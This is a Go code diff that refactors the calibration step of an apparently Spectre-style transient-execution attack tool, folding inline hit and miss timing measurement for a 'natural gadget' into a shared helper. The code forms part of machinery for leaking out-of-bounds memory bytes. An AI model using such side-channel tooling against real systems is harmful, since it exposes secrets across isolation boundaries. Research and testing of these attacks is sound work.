@@ -219,41 +219,10 @@ func (v *NaturalGadget) leakRaw(byteIndex int) (uint64, error) {
 	return v.probe()
 }
 
-func (v *NaturalGadget) calibrate() error {
-	// Warm-up: the first windows pay compulsory instruction-cache
-	// misses and would skew the threshold.
-	for _, b := range []byte{0xFF, 0x00, 0xFF, 0x00} {
-		v.WriteSecret([]byte{b})
-		if _, err := v.leakRaw(0); err != nil {
-			return err
-		}
-	}
-	const rounds = 6
-	var one, zero float64
-	for i := 0; i < rounds; i++ {
-		v.WriteSecret([]byte{0xFF})
-		o, err := v.leakRaw(0)
-		if err != nil {
-			return err
-		}
-		one += float64(o)
-		v.WriteSecret([]byte{0x00})
-		z, err := v.leakRaw(0)
-		if err != nil {
-			return err
-		}
-		zero += float64(z)
-	}
-	v.th = attack.Threshold{
-		HitMean:  one / rounds,
-		MissMean: zero / rounds,
-		Cut:      (one + zero) / (2 * rounds),
-	}
-	if v.th.MissMean <= v.th.HitMean {
-		return fmt.Errorf("transient: no natural-gadget signal (one %.0f ≥ zero %.0f)",
-			v.th.HitMean, v.th.MissMean)
-	}
-	return nil
+func (v *NaturalGadget) calibrate() (err error) {
+	v.th, err = calibratePresence("natural-gadget", v.WriteSecret,
+		func() (uint64, error) { return v.leakRaw(0) })
+	return err
 }
 
 // LeakTagBit recovers the 0x80 bit of the out-of-bounds byte at
